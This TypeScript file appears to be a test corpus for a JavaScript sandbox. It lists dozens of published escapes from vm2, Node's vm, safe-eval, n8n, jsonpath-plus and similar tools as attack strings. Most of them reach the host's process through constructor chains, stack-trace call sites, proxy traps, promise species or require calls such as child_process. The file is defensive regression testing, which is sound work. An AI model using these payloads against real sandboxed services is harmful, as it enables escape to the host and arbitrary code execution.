/** A published way out of a sandbox: who was left, by what means, and the same means tried here. */
export interface Escape {
  /** Advisory, issue or the sandbox it is known from. */
  readonly id: string;
  readonly technique: string;
  /** Body of a function; what it returns, throws or takes is looked at. */
  readonly attack: string;
}

const through = (value: string): string => `return ${value}.constructor.constructor('return process')()`;

/** Ways out of vm2. */
export const vm2Escapes: readonly Escape[] = [
  {
    id: 'vm2 issue 32',
    technique: 'the constructor of an error that a host function throws',
    attack: `try { vance.tools.call(Symbol(), {}) } catch (e) { $take(e); ${through('e')} }`,
  },
  {
    id: 'vm2 issue 174',
    technique: 'a conversion throws a proxy whose prototype trap throws a function',
    attack: `try { vance.tools.call({ [Symbol.toPrimitive]() { throw new Proxy({}, { getPrototypeOf() { throw (f) => f.constructor('return process')() } }) } }, {}) } catch (e) { $take(e); return e(() => {}) }`,
  },
  {
    id: 'vm2 issue 177',
    technique: 'a proxied class whose construct trap gives a function',
    attack: `const C = new Proxy(class {}, { construct: () => (x) => $take(x).constructor('return process')() }); vance.tools.call('x', { C }); return Reflect.construct(C, [])(() => {})`,
  },
  {
    id: 'vm2 issue 179',
    technique: 'a construct trap whose function looks at its receiver',
    attack: `const C = new Proxy(class {}, { construct: () => function () { return $take(Object.getPrototypeOf(this ?? {})) } }); const o = { f: new C() }; vance.tools.call('x', o); vance.log.info('m', o); return o.f()`,
  },
  {
    id: 'vm2 issue 268',
    technique: 'the custom inspect symbol on what the host prints',
    attack: `const s = Symbol.for('nodejs.util.inspect.custom'); const o = { [s](depth, options, inspect) { $take(options); $take(inspect); throw inspect } }; console.log(o); vance.log.info('m', o); try { vance.tools.call('x', o) } catch (e) { return e }`,
  },
  {
    id: 'CVE-2019-10761',
    technique: 'a stack overflow raised by host code at the end of the stack',
    attack: `const f = (d) => { try { vance.tools.has('x') } catch (e) { $take(e); $take(e.constructor.constructor('return process')) } return f(d + 1) }; try { f(1) } catch (e) { ${through('e')} }`,
  },
  {
    id: 'CVE-2021-23449',
    technique: 'the promise of a dynamic import and its functions',
    attack: `const p = import('oops'); $take(p); $take(p.then); $take(p.toString); p.catch((e) => $take(e)); return p.toString.constructor('return process')()`,
  },
  {
    id: 'CVE-2021-23555',
    technique: 'call sites handed to prepareStackTrace',
    attack: `Error.prepareStackTrace = (e, sites) => { $take(sites); return sites.map((s) => $take(s.getFunction() ?? s.getThis())) }; const { stack } = new Error(); try { null.x } catch (e) { $take(e.stack) } return stack`,
  },
  {
    id: 'CVE-2022-25893',
    technique: 'WeakMap.prototype.set replaced while the host fills its tables',
    attack: `WeakMap.prototype.set = function (k, v) { $take(this); $take(k); $take(v); throw v }; const e = new Error(); Error.prepareStackTrace = (_, s) => s; return [e.stack, vance.tools.call('x', {}), new Proxy({}, {})]`,
  },
  {
    id: 'CVE-2022-36067',
    technique: 'a new global Error with its own prepareStackTrace',
    attack: `globalThis.OldError = Error; globalThis.Error = {}; globalThis.Error.prepareStackTrace = (_, sites) => { $take(sites); for (const s of sites) $take(s.getThis()) }; try { null.x } catch (e) { return e.stack }`,
  },
  {
    id: 'CVE-2023-29017',
    technique: 'an asynchronous error that nobody handles, with prepareStackTrace',
    attack: `Error.prepareStackTrace = (e, frames) => { $take(frames); ${through('frames')} }; (async () => {}).constructor('return process')().catch?.((e) => $take(e)); (async () => { await null; null.x })(); return 1`,
  },
  {
    id: 'CVE-2023-29199',
    technique: 'names the rewriting of catch clauses writes, used by the script',
    attack: `const caught = (e) => e; let out; try { throw { get constructor() { return $take(this) } } } catch (handleException) { out = handleException; try { throw 1 } catch ({ toString: t }) { $take(t) } } return out`,
  },
  {
    id: 'CVE-2023-30547',
    technique: 'an error thrown by a prototype trap while an exception is looked at',
    attack: `const thrower = new Proxy({}, { getPrototypeOf() { Error().stack; null.x } }); try { throw thrower } catch (e) { $take(e) } try { vance.tools.call('x', thrower) } catch (e) { return e }`,
  },
  {
    id: 'CVE-2023-32313',
    technique: 'the inspect function of the console replaced',
    attack: `const { log } = console; for (const k of Reflect.ownKeys(console)) { try { console[k] = function () { $take(this); $take(arguments.callee.caller) } } catch {} } log({ a: 1 }); console.log(1); return [console, log]`,
  },
  {
    id: 'CVE-2023-32314',
    technique: 'a proxy with an apply trap as the message of an error',
    attack: `const p = new Proxy((_) => _, { apply(target, self, args) { $take(self); $take(args); return target } }); const e = new Error(); e.name = { toString: p }; e.message = p; $take(e.stack); throw e`,
  },
  {
    id: 'CVE-2023-37466',
    technique: 'Symbol.species of a promise an async function gave',
    attack: `const p = (async () => { null.x })(); p.constructor = { [Symbol.species]: class { constructor(run) { run((x) => $take(x), (e) => { $take(e); $take(e.constructor.constructor('return process')()) }) } } }; return p.then(() => {})`,
  },
  {
    id: 'CVE-2023-37903',
    technique: 'the inspect symbol found in four ways, and WebAssembly to make the host print',
    attack: `const s = Symbol.for({ toString: () => 'nodejs.util.inspect.custom' }); const o = { [s]: (d, o, inspect) => $take(inspect), valueOf: undefined, constructor: undefined }; try { WebAssembly.compileStreaming(o).catch(() => {}) } catch (e) { $take(e) } console.log(o); return vance.tools.call('x', o)`,
  },
  {
    id: 'CVE-2026-22709',
    technique: 'then and catch of the promise an async function gives',
    attack: `const e = new Error(); e.name = Symbol(); const p = (async () => e.stack)(); p.catch((x) => $take(x)); p.then((x) => $take(x), (x) => $take(x)); return Object.getPrototypeOf(p).catch.constructor('return process')()`,
  },
  {
    id: 'CVE-2026-44000',
    technique: 'what a promise of the host is fulfilled with',
    attack: `Promise.prototype.then = new Proxy(Promise.prototype.then, { apply(t, self, args) { $take(self); for (const a of args) $take(a); return Reflect.apply(t, self, args) } }); const r = vance.tools.call('x', {}); (async () => $take(await r))(); return r`,
  },
  {
    id: 'CVE-2026-44001',
    technique: 'a rejection that nobody handles ends the host',
    attack: `new Promise((_, reject) => reject({ get stack() { throw 1 } })); new Promise(() => { throw null }); Promise.reject(Object.create(null)); (async () => { throw new Proxy({}, { get() { throw 2 } }) })(); return 1`,
  },
  {
    id: 'CVE-2026-44008',
    technique: 'getters on Array.prototype that see the arrays of the bridge',
    attack: `for (let i = 0; i < 20; i++) Object.defineProperty(Array.prototype, i, { get() { $take(this); return undefined }, set(v) { $take(this); $take(v) }, configurable: true }); Object.defineProperty(Array.prototype, 'constructor', { get() { $take(this); return Array } }); try { vance.tools.call('x', { a: {} }); vance.tools.call(); vance.params.l.map((x) => x) } catch (e) { $take(e) } for (let i = 0; i < 20; i++) delete Array.prototype[i]; return 1`,
  },
  {
    id: 'CVE-2026-45411',
    technique: 'yield* of an async generator whose return value throws in its then',
    attack: `async function* g() { try { yield* { [Symbol.asyncIterator]() { return { next() { return { value: 1, done: false } } } } } } catch (e) { $take(e) } } const it = g(); it.next().then((v) => $take(v)); return it.return({ get then() { const f = () => f(); f() } }).then((v) => $take(v), (e) => $take(e))`,
  },
  {
    id: 'CVE-2026-47210',
    technique: 'promises of WebAssembly and their finally',
    attack: `try { const p = WebAssembly.promising(() => {})(); p.finally((x) => $take(x)) } catch (e) { $take(e) } return typeof WebAssembly`,
  },
  {
    id: 'CVE-2026-47140',
    technique: 'builtin modules no list forbids',
    attack: `for (const name of ['process', 'node:process', 'inspector/promises', 'node:sqlite', 'node:sea', 'fs', 'child_process', 'worker_threads', 'module']) { try { $take(require(name)) } catch (e) { $take(e) } import(name).then((m) => $take(m), (e) => $take(e)); try { $take(load(name)) } catch (e) { $take(e) } } return 1`,
  },
  {
    id: 'GHSA-grj5-jjm8-h35p',
    technique: '__lookupGetter__ of __proto__ applied to what the host gives',
    attack: `const up = ({}).__lookupGetter__('__proto__'); let at = vance.tools.call('x', {}); for (let i = 0; i < 9 && at; i++) $take((at = up.call(at))); let f = vance.tools.call; for (let i = 0; i < 9 && f; i++) $take((f = up.call(f))); return up`,
  },
  {
    id: 'GHSA-qvjj-29qf-hp7p',
    technique: 'Symbol.species on Promise and on a class made by Reflect.construct',
    attack: `class Fake { constructor(run) { run((x) => $take(x), (e) => $take(e)) } static get [Symbol.species]() { return Fake } } Object.defineProperty(Promise, Symbol.species, { value: Fake }); const p = Reflect.construct(Promise, [() => { null.x }], Fake); $take(p); return Promise.prototype.then.call(Promise.reject(1), () => {})`,
  },
  {
    id: 'GHSA-55hx-c926-fr95',
    technique: 'SuppressedError and disposal with an error that cannot be printed',
    attack: `const e = new Error(); e.name = Symbol(); try { $take(new SuppressedError(e, e)) } catch (x) { $take(x) } try { const s = new DisposableStack(); s.defer(() => e.stack); s.dispose() } catch (x) { $take(x) } return eval('{ using x = { [Symbol.dispose]() { e.stack } } }')`,
  },
  {
    id: 'GHSA-ffh4-j6h5-pg66',
    technique: 'exceptions caught inside WebAssembly by its JavaScript tag',
    attack: `const tag = WebAssembly.JSTag; return [tag, new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))]`,
  },
  {
    id: 'GHSA-47x8-96vw-5wg6',
    technique: 'an array that is its own species, filled by the host',
    attack: `const list = vance.tools.call('x', {}).list; const f = function () { return list }; f[Symbol.species] = f; try { list.constructor = f } catch (e) { $take(e) } try { Object.assign(list, { constructor: f }) } catch (e) { $take(e) } $take(list.map((x) => x)); $take(list.concat([1])); return list.filter(() => true)`,
  },
  {
    id: 'GHSA-x965-fc75-jpqh',
    technique: 'errors inside an AggregateError',
    attack: `Promise.any([Promise.reject(new Error('a')), (async () => vance.tools.call(Symbol(), {}))(), (async () => vance.nope())()]).catch((e) => { $take(e); for (const x of e.errors) $take(x) }); return new AggregateError([vance], 'm', { cause: vance.tools })`,
  },
  {
    id: 'GHSA-647f-g98j-qq25',
    technique: 'host functions reached through call and apply of others',
    attack: `const call = Function.prototype.call; $take(call.call(vance.tools.call, vance.tools, 'x', {})); $take(call.apply(call, [({}).__lookupGetter__, vance.tools.call, '__proto__'])); return call.bind(vance.tools.call, undefined, 'x', {})()`,
  },
  {
    id: 'GHSA-x6m4-chr9-cg97',
    technique: 'paths of the host in stack texts',
    attack: `const texts = []; const note = (f) => { try { f() } catch (e) { texts.push(String(e.stack), String(e.message)) } }; note(() => vance.tools.call()); note(() => vance.tools.call('boom', {})); note(() => null.x); note(() => eval('1 +')); note(() => new Function('1 +')); note(() => JSON.parse('{')); note(() => vance.nope()); note(() => load('x')); for (const t of texts) $take(t); return texts.join()`,
  },
  {
    id: 'GHSA-r273-hxvj-fxhp',
    technique: 'call sites by other means',
    attack: `try { $take(require('util').getCallSites()) } catch (e) { $take(e) } $take(globalThis.util); $take(new Error('x', { cause: new Error('y') }).stack); return (function () { return arguments.callee.caller })()`,
  },
  {
    id: 'GHSA-r4fx-v8hh-22mv',
    technique: 'clean-up callbacks after the end of the run',
    attack: `const r = new FinalizationRegistry((x) => { for (;;); }); for (let i = 0; i < 1000; i++) r.register({}, i); const junk = []; for (let i = 0; i < 2000; i++) junk.push(new Array(100).fill(i)); return junk.length`,
  },
  {
    id: 'GHSA-vwrp-x96c-mhwq',
    technique: 'writing to the prototypes of what the host gives',
    attack: `for (const v of [vance, vance.tools, vance.params, vance.params.m, vance.params.l, vance.tools.call('x', {}), vance.tools.call]) { const p = Object.getPrototypeOf(v); for (const t of [v, p]) { try { t.polluted = 1 } catch {} try { Object.defineProperty(t, 'polluted', { value: 1 }) } catch {} try { Object.setPrototypeOf(t, { evil: 1 }) } catch {} try { Object.freeze(t) } catch {} try { delete t.constructor } catch {} } } return vance.tools.call('x', {})`,
  },
  {
    id: 'GHSA-qcp4-v2jj-fjx8',
    technique: 'the handler of a proxy of the host, seen through traps on Object.prototype',
    attack: `const traps = ['get', 'set', 'has', 'deleteProperty', 'ownKeys', 'getOwnPropertyDescriptor', 'defineProperty', 'getPrototypeOf', 'setPrototypeOf', 'isExtensible', 'preventExtensions', 'apply', 'construct']; const made = []; for (const t of traps) if (!(t in Object.prototype)) { made.push(t); Object.defineProperty(Object.prototype, t, { get() { $take(this); return undefined }, set(v) { $take(this) }, configurable: true }); } for (const v of [vance, vance.params.m, vance.params.l, java]) { for (const k in v) $take(v[k]); try { Object.getPrototypeOf(v); Object.isExtensible(v); new Proxy(v, {}).x } catch (e) { $take(e) } } for (const t of made) delete Object.prototype[t]; return 1`,
  },
  {
    id: 'vm2 receiver of a write',
    technique: 'writing through a child of a host object and with a foreign receiver',
    attack: `for (const v of [vance.guard, vance.params.m, vance.params.l, vance.tools]) { const o = {}; try { Object.setPrototypeOf(o, v); o.x = 1; $take(o) } catch (e) { $take(e) } try { Reflect.set(v, 'x', 1, o); Reflect.get(v, 'x', $take(o)) } catch (e) { $take(e) } } return [vance.guard.x, vance.params.m.x]`,
  },
  {
    id: 'vm2 spread of Object.entries',
    technique: 'constructors dug out of descriptors and entries',
    attack: `const d = Object.getOwnPropertyDescriptors(Object.getPrototypeOf(vance.tools.call)); $take(d); for (const [, v] of Object.entries(d)) $take(v.value ?? v.get); return Object.entries(Object.getOwnPropertyDescriptors(vance.tools))`,
  },
  {
    id: 'vm2 Array.fromAsync',
    technique: 'promises that builtins make over a hostile constructor',
    attack: `function Fake(run) { $take(run); run((x) => $take(x), (e) => $take(e)); } for (const name of ['all', 'any', 'race', 'allSettled', 'resolve', 'reject', 'try', 'withResolvers']) { try { $take(Promise[name].call(Fake, [Promise.reject(1), 2])) } catch (e) { $take(e) } } Array.fromAsync([vance]).then((x) => $take(x)); return 1`,
  },
];

/** Ways out of Node's own vm and of what was built on it. */
export const nodeVmEscapes: readonly Escape[] = [
  { id: 'Node vm', technique: 'the constructor of the global object', attack: through('this') },
  {
    id: 'Node vm, gist of 2014',
    technique: 'the constructor of the constructor of a result',
    attack: `const r = vance.tools.call('x', {}); $take(r.constructor); ${through('r')}`,
  },
  {
    id: 'Node vm, frozen Error',
    technique: 'the caller of a getter',
    attack: `const o = { get a() { return $take(arguments.callee.caller) } }; vance.tools.call('x', o); vance.log.info('m', o); return o.a`,
  },
  {
    id: 'CVE-2017-16088',
    technique: 'this.constructor.constructor in safe-eval',
    attack: `const f = this.constructor.constructor; $take(f); return f('return this.process.mainModule.require')()`,
  },
  {
    id: 'CVE-2022-25904',
    technique: 'polluting the prototype of a result of safe-eval',
    attack: `Object.getPrototypeOf(vance.tools.call('x', {})).polluted = 1; ({}).__proto__.polluted = 1; const c = (function () {}).constructor; $take(c); delete Object.prototype.polluted; return c`,
  },
  {
    id: 'CVE-2023-26121',
    technique: '__defineGetter__ and friends on what the host gives',
    attack: `for (const v of [vance, vance.params, vance.tools.call]) { try { v.__defineGetter__('x', function () { return $take(this) }); $take(v.x) } catch (e) { $take(e) } try { $take(v.__lookupGetter__('__proto__')) } catch (e) { $take(e) } } return 1`,
  },
  {
    id: 'CVE-2023-26122',
    technique: 'import() and its rejection in safe-eval',
    attack: `import('test').catch((e) => { $take(e); return e.constructor.constructor('return process')() }).then((x) => $take(x), (e) => $take(e)); return 1`,
  },
  {
    id: 'safe-eval issue 28',
    technique: 'getThis of the first call site',
    attack: `Error.prepareStackTrace = (_, c) => c.map((s) => s.getThis()).find((a) => a); const r = new Error().stack; $take(r); return r.__proto__`,
  },
  {
    id: 'CVE-2019-10759',
    technique: 'setTimeout and other timers in safer-eval',
    attack: `return [setTimeout, setInterval, setImmediate, queueMicrotask].map((f) => f.constructor.constructor('return process')())`,
  },
  {
    id: 'CVE-2019-10760',
    technique: 'the constructor of a thrown error in safer-eval',
    attack: `try { null.x.y } catch (e) { ${through('e')} }`,
  },
  {
    id: 'CVE-2019-10769',
    technique: 'recursion until the host throws in safer-eval',
    attack: `const f = () => { try { f() } catch (e) { $take(e.constructor); throw e } }; try { f() } catch (e) { ${through('e')} }`,
  },
  {
    id: 'gf3/sandbox issue 65',
    technique: 'a call site given as the stack',
    attack: `Error.prepareStackTrace = (_, c) => c[0].getThis(); const r = Error().stack; ${through('r')}`,
  },
  {
    id: 'gf3/sandbox issue 66',
    technique: 'a TypeError made by a method taken from `with` and unscopables',
    attack: `try { const proto = { [Symbol.unscopables]: {} }; with (proto) { isPrototypeOf.call(null, {}) } } catch (e) { ${through('e')} }`,
  },
  {
    id: 'gf3/sandbox issue 67',
    technique: 'propertyIsEnumerable on nothing',
    attack: `try { propertyIsEnumerable.call(undefined) } catch (e) { ${through('e')} }`,
  },
  {
    id: 'gf3/sandbox issue 69',
    technique: 'methods of the global object called without it',
    attack: `for (const name of ['toLocaleString', 'valueOf', 'hasOwnProperty', '__defineGetter__', '__lookupGetter__', 'isPrototypeOf']) { try { $take((0, globalThis[name])()) } catch (e) { $take(e); $take(e.constructor.constructor('return process')) } } return toString.constructor('return process')()`,
  },
  {
    id: 'CVE-2022-23923',
    technique: 'the functions jailed gives to its scripts',
    attack: `return [typeof application, typeof self, typeof postMessage, typeof importScripts, vance.tools.call.constructor.constructor('return process')()]`,
  },
  {
    id: 'CVE-2025-61927',
    technique: 'constructors of window and document in happy-dom',
    attack: `return [typeof window, typeof document, this.constructor.constructor('return process')()]`,
  },
  {
    id: 'jsdom',
    technique: 'the outer realm through window.constructor',
    attack: `try { ${through('window')} } catch (e) { ${through('e')} }`,
  },
  {
    id: 'CVE-2024-21534',
    technique: 'script expressions of jsonpath-plus',
    attack: `const _$_v = vance.params.m; return [_$_v.constructor.constructor('return process')(), $take(Reflect.get(_$_v, 'constructor'))]`,
  },
  {
    id: 'CVE-2025-1302',
    technique: 'shorthands for this and constructor in jsonpath-plus',
    attack: `return (function () { const p = [].find.constructor('return this')(); $take(p); return p.process })()`,
  },
  {
    id: 'ThingsBoard js-executor',
    technique: 'the prototype chain of the arguments',
    attack: `$take(args); $take(arguments); return args.constructor.constructor('return process')()`,
  },
  {
    id: 'node-red function node',
    technique: 'context objects of the host',
    attack: `return [typeof RED, typeof context, typeof flow, typeof global, typeof env].concat($take(vance.context.constructor.constructor('return process')()))`,
  },
  {
    id: 'CVE-2025-68613',
    technique: 'a function whose this is the host in n8n',
    attack: `const t = (function () { return this })(); $take(t); return [t.process, t.process?.mainModule, (function () { 'use strict'; return this })()]`,
  },
  {
    id: 'CVE-2026-1470',
    technique: '`with` and a name that becomes a constructor in n8n',
    attack: `const constructor = 'x'; with (function () {}) { $take(constructor); return constructor('return process')() }`,
  },
  {
    id: 'CVE-2026-25049',
    technique: 'property keys that are no texts in n8n',
    attack: `const key = ['constructor']; const f = ({})[key][key]; $take(f); const { [key]: c } = () => {}; $take(c); return c\`return process\`()`,
  },
  {
    id: 'JSReport issue 1056',
    technique: 'an apply trap that sees the frames of the host',
    attack: `const p = new Proxy(() => {}, { apply: (t, self, list) => { $take(self); $take(list); return $take(new Error().stack) } }); try { vance.tools.call('x', { toJSON: p, then: p, toString: p }); p.call(vance) } catch (e) { return e }`,
  },
];
